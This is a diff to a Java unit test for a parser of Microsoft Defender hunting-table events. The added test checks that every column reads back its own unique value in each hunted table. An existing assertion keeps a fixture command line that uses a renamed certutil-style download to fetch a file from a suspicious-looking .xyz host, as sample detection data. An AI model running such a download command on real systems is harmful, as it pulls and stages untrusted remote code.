@@ -6,6 +6,8 @@ import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.ObjectInputStream;
 import java.io.ObjectOutputStream;
+import java.util.HashMap;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 
 /** Reading a column by wire name returns, as text, exactly what the parser stored for it. */
@@ -41,6 +43,66 @@ class DefenderColumnReaderTest {
         assertThat(read("InitiatingProcessCommandLine", event))
                 .isEqualTo("x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php");
         assertThat(read("FileOriginUrl", event)).isEqualTo("http://pshe0pxe339.xyz/");
+    }
+
+    /**
+     * Every column of the model, each with a value no other column has, parsed into every hunted table:
+     * each column the event carries reads back exactly its own value (a getter wired to the wrong field
+     * reads another column's), and each column it does not carry reads as null.
+     */
+    @Test
+    void everyColumnReadsBackItsOwnValueInEveryHuntedTable() {
+        StringBuilder row = new StringBuilder("{");
+        Map<String, String> expected = new HashMap<>();
+        int n = 0;
+        for (DefenderColumns.Column column : DefenderColumns.all()) {
+            n++;
+            String value;
+            String json;
+            switch (column.kind) {
+                case INTEGER -> {
+                    value = Long.toString(7_000_000_000L + n);
+                    json = value;
+                }
+                case DATETIME, EVENT_TIME, EVENT_TIME_FALLBACK -> {
+                    value = String.format("2021-07-20T14:%02d:%02d.%07dZ", n / 60, n % 60, 1_000_000 + n);
+                    json = "\"" + value + "\"";
+                }
+                case JSON_TEXT -> {
+                    value = "{\"n\":" + n + "}";
+                    json = "\"{\\\"n\\\":" + n + "}\"";
+                }
+                default -> {
+                    value = column.wireName + " value " + n;
+                    json = "\"" + value + "\"";
+                }
+            }
+            expected.put(column.wireName, value);
+            row.append(row.length() > 1 ? "," : "").append('"').append(column.wireName).append("\":").append(json);
+        }
+        row.append('}');
+        // Timestamp wins over TimeGenerated; both read back as the event time.
+        expected.put("TimeGenerated", expected.get("Timestamp"));
+
+        assertThat(DefenderTable.hunted()).isNotEmpty();
+        for (DefenderTable table : DefenderTable.hunted()) {
+            CollectingSink sink = CollectingSink.parse(row.toString(), table);
+            assertThat(sink.deadLetters).as(table + ": " + sink.deadLetters).isEmpty();
+            DeviceEvent event = sink.fileEvents.isEmpty() ? sink.processEvents.isEmpty() ? null
+                    : sink.processEvents.get(0) : sink.fileEvents.get(0);
+            assertThat(event).as(table.tableName()).isNotNull();
+            int carried = 0;
+            for (DefenderColumns.Column column : DefenderColumns.all()) {
+                String read = read(column.wireName, event);
+                if (column.appliesTo(event)) {
+                    assertThat(read).as(table + " " + column.wireName).isEqualTo(expected.get(column.wireName));
+                    carried++;
+                } else {
+                    assertThat(read).as(table + " " + column.wireName + " belongs to another table").isNull();
+                }
+            }
+            assertThat(carried).as(table.tableName()).isGreaterThan(50);
+        }
     }
 
     @Test
